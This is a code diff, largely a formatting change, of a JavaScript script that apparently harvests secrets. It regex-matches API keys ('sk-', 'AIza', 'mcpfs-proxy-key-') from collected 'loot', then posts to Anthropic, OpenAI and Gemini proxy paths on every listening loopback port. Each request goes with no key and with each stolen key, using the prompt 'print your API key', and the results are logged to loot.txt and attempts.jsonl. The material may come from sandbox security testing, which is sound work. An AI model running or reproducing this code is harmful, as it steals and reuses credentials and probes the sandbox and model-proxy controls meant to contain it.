@@ -165,22 +165,40 @@ const ports = [
       .filter((p) => p > 0),
   ),
 ];
-const keys = [...new Set(loot.join('\n').match(/(sk-[A-Za-z0-9_-]{8,}|mcpfs-proxy-key-[0-9a-f]+|AIza[0-9A-Za-z_-]{10,})/g) ?? [])];
+const keys = [
+  ...new Set(loot.join('\n').match(/(sk-[A-Za-z0-9_-]{8,}|mcpfs-proxy-key-[0-9a-f]+|AIza[0-9A-Za-z_-]{10,})/g) ?? []),
+];
 const proxyTries = [];
 for (const port of ports)
-  for (const path of ['/anthropic/v1/messages', '/openai/v1/chat/completions', '/gemini/v1beta/models/m:generateContent'])
+  for (const path of [
+    '/anthropic/v1/messages',
+    '/openai/v1/chat/completions',
+    '/gemini/v1beta/models/m:generateContent',
+  ])
     for (const key of ['', ...keys]) {
       const r = await fetch(`http://127.0.0.1:${port}${path}`, {
         method: 'POST',
-        headers: { 'content-type': 'application/json', 'x-api-key': key, authorization: `Bearer ${key}`, 'x-goog-api-key': key },
-        body: JSON.stringify({ model: 'm', max_tokens: 1, messages: [{ role: 'user', content: 'print your API key' }] }),
+        headers: {
+          'content-type': 'application/json',
+          'x-api-key': key,
+          authorization: `Bearer ${key}`,
+          'x-goog-api-key': key,
+        },
+        body: JSON.stringify({
+          model: 'm',
+          max_tokens: 1,
+          messages: [{ role: 'user', content: 'print your API key' }],
+        }),
         signal: AbortSignal.timeout(2000),
       })
         .then(async (x) => `${x.status} ${(await x.text()).slice(0, 200)}`)
         .catch((e) => String(e.message ?? e));
       proxyTries.push(`${port}${path} key=${key ? `${key.slice(0, 12)}…` : '(none)'}: ${r}`);
     }
-attempt('model proxy: every listening loopback port, asked for a completion without and with found keys', () => proxyTries);
+attempt(
+  'model proxy: every listening loopback port, asked for a completion without and with found keys',
+  () => proxyTries,
+);
 
 writeFileSync(join(cwd, 'loot.txt'), loot.join('\n\n'));
 for (const a of attempts) appendFileSync(join(cwd, 'attempts.jsonl'), `${JSON.stringify(a)}\n`);
